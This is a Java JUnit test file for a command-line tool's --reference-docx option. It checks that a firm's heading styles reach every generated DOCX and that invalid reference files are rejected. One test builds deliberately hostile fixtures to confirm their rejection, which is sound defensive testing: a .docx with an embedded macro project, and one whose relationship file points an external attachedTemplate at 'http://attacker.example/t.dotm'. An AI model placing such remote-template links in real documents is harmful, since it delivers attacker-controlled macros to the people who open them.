package dev.csreview.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.OutputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFStyle;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.CTStyle;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.STStyleType;

/** A firm's own .docx as --reference-docx: its styles reach every DOCX; a bad one stops the run before any work. */
class ReferenceDocxCliTest {
    private static final String COLOUR = "2E7D32";
    private static final String FONT = "Firm Serif Display";

    @TempDir
    Path tmp;

    /** A reference document as a firm makes one: Heading 1–3 in its own green and typeface. */
    private static byte[] firmDocx(boolean withHeading3) throws Exception {
        try (XWPFDocument doc = new XWPFDocument()) {
            var styles = doc.createStyles();
            for (int level = 1; level <= (withHeading3 ? 3 : 2); level++) {
                CTStyle s = CTStyle.Factory.newInstance();
                s.setStyleId("Heading" + level);
                s.addNewName().setVal("heading " + level);
                s.setType(STStyleType.PARAGRAPH);
                var rpr = s.addNewRPr();
                rpr.addNewColor().setVal(COLOUR);
                var fonts = rpr.addNewRFonts();
                fonts.setAscii(FONT);
                fonts.setHAnsi(FONT);
                fonts.setEastAsia(FONT);
                rpr.addNewSz().setVal(BigInteger.valueOf(40));
                styles.addStyle(new XWPFStyle(s, styles));
            }
            doc.createParagraph().createRun().setText("Firm template");
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            doc.write(out);
            return out.toByteArray();
        }
    }

    private int run(StringWriter err, String... args) {
        return Main.run(args, new PrintWriter(new StringWriter()), new PrintWriter(err));
    }

    @Test
    void the_firms_heading_colour_and_font_reach_every_docx_of_the_package() throws Exception {
        Path ref = tmp.resolve("firm.docx");
        Files.write(ref, firmDocx(true));
        Path out = tmp.resolve("out");
        StringWriter err = new StringWriter();
        assertThat(run(err, "assess", "--out", out.toString(), "--formats", "docx", "--date", "2026-12-04", "--reference-docx", ref.toString(),
                "samples/us-listing-platform.yaml")).as(err.toString()).isZero();
        List<Path> docs;
        try (var walk = Files.walk(out)) {
            docs = walk.filter(p -> p.toString().endsWith(".docx")).toList();
        }
        assertThat(docs).hasSizeGreaterThanOrEqualTo(10);
        for (Path d : docs) {
            byte[] bytes = Files.readAllBytes(d);
            assertThat(part(bytes, "word/styles.xml")).as(d.toString()).contains(FONT, "w:val=\"" + COLOUR + "\"");
            assertThat(part(bytes, "word/document.xml")).as(d.toString()).contains("w:pStyle w:val=\"Heading1\"").doesNotContain("Firm template");
        }
    }

    @Test
    void the_brand_file_can_name_the_reference_docx_and_its_name_is_in_every_document() throws Exception {
        Files.write(tmp.resolve("firm.docx"), firmDocx(true));
        Path brand = tmp.resolve("brand.yaml");
        Files.writeString(brand, "name: 示例律师事务所\ncolour: \"#1a4d8f\"\nreference_docx: firm.docx\n");
        Path out = tmp.resolve("out");
        StringWriter err = new StringWriter();
        assertThat(run(err, "assess", "--out", out.toString(), "--formats", "html,docx", "--date", "2026-12-04", "--brand", brand.toString(),
                "samples/us-listing-platform.yaml")).as(err.toString()).isZero();
        try (var walk = Files.walk(out)) {
            for (Path d : walk.filter(p -> p.toString().endsWith(".docx") || p.toString().endsWith(".html")).toList()) {
                if (d.toString().endsWith(".html")) {
                    assertThat(Files.readString(d)).as(d.toString()).contains("示例律师事务所", "#1a4d8f");
                } else {
                    assertThat(part(Files.readAllBytes(d), "word/styles.xml")).as(d.toString()).contains(FONT);
                }
            }
        }
    }

    @Test
    void a_file_that_is_not_a_docx_an_encrypted_one_or_one_without_a_heading_style_stops_before_any_work() throws Exception {
        Path text = tmp.resolve("notes.docx");
        Files.writeString(text, "not a zip");
        Path encrypted = tmp.resolve("locked.docx");
        Files.write(encrypted, encrypt(firmDocx(true)));
        Path partial = tmp.resolve("partial.docx");
        Files.write(partial, firmDocx(false));
        Path macros = tmp.resolve("macros.docx");
        Files.write(macros, withEntry(firmDocx(true), "word/vbaProject.bin", new byte[] {1, 2, 3}));
        Path linked = tmp.resolve("linked.docx");
        Files.write(linked, withEntry(firmDocx(true), "word/_rels/settings.xml.rels", ("<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas."
                + "openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
                + "2006/relationships/attachedTemplate\" Target=\"http://attacker.example/t.dotm\" TargetMode=\"External\"/></Relationships>")
                .getBytes(StandardCharsets.UTF_8)));
        String[][] cases = {{text.toString(), "B004", "is not a .docx"}, {encrypted.toString(), "B005", "encrypted"},
                {partial.toString(), "B008", "Heading 3"}, {macros.toString(), "B006", "macros"},
                {linked.toString(), "B007", "http://attacker.example/t.dotm"}};
        for (String[] c : cases) {
            Path out = tmp.resolve("out-" + c[1]);
            StringWriter err = new StringWriter();
            assertThat(run(err, "assess", "--out", out.toString(), "--formats", "docx", "--lang", "en", "--reference-docx", c[0],
                    "samples/us-listing-platform.yaml")).as(c[1]).isEqualTo(ExitCode.INVALID);
            assertThat(err.toString()).as(c[1]).contains(c[1], c[2], c[0]).doesNotContain("Exception", "\tat ");
            assertThat(out).as("nothing written for " + c[1]).doesNotExist();
        }
    }

    private static byte[] encrypt(byte[] docx) throws Exception {
        try (POIFSFileSystem fs = new POIFSFileSystem()) {
            EncryptionInfo info = new EncryptionInfo(EncryptionMode.agile);
            Encryptor enc = info.getEncryptor();
            enc.confirmPassword("secret");
            try (OutputStream os = enc.getDataStream(fs)) {
                os.write(docx);
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            fs.writeFilesystem(out);
            return out.toByteArray();
        }
    }

    private static byte[] withEntry(byte[] docx, String name, byte[] content) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipInputStream in = new ZipInputStream(new java.io.ByteArrayInputStream(docx));
                java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(out)) {
            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                zip.putNextEntry(new ZipEntry(e.getName()));
                zip.write(in.readAllBytes());
            }
            zip.putNextEntry(new ZipEntry(name));
            zip.write(content);
        }
        return out.toByteArray();
    }

    static String part(byte[] docx, String name) throws Exception {
        try (ZipInputStream zip = new ZipInputStream(new java.io.ByteArrayInputStream(docx))) {
            for (ZipEntry e = zip.getNextEntry(); e != null; e = zip.getNextEntry()) {
                if (e.getName().equals(name)) {
                    return new String(zip.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        }
        throw new AssertionError("no " + name);
    }
}
